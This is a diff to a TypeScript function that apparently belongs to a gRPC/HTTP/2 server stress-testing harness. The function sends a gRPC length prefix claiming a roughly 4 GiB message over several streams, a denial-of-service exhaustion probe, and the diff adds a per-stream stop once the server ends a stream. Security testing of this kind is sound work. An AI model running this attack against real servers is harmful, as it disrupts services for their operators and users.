@@ -218,8 +218,9 @@ export function lengthPrefix4GiB(path: string, streams = 4): Attack {
     const prefix = Buffer.from([0, 0xff, 0xff, 0xff, 0xff])
     const ids = Array.from({ length: streams }, (_, i) => 2 * i + 1)
     await peer.send(Buffer.concat(ids.map((id) => headersFrame(id, grpcRequestBlock(path)))))
-    const stop = () => signal?.aborted === true || performance.now() > deadline
-    const accepted = await Promise.all(ids.map((id) => peer.sendWindowed(id, byteSource(prefix, Buffer.alloc(DEFAULT_MAX_FRAME), 2 ** 32 + 4), stop)))
+    // Once the server has answered a stream, more of its request is pointless.
+    const stop = (id: number) => () => signal?.aborted === true || performance.now() > deadline || peer.ended.has(id)
+    const accepted = await Promise.all(ids.map((id) => peer.sendWindowed(id, byteSource(prefix, Buffer.alloc(DEFAULT_MAX_FRAME), 2 ** 32 + 4), stop(id))))
     const sent = accepted.reduce((a, b) => a + b, 0)
     const ended = ids.map((id) => peer.ended.get(id) ?? 'open')
     return outcome(peer, sent, `bytes accepted per stream ${accepted.join(', ')}; streams ended by ${ended.join(', ')}`)
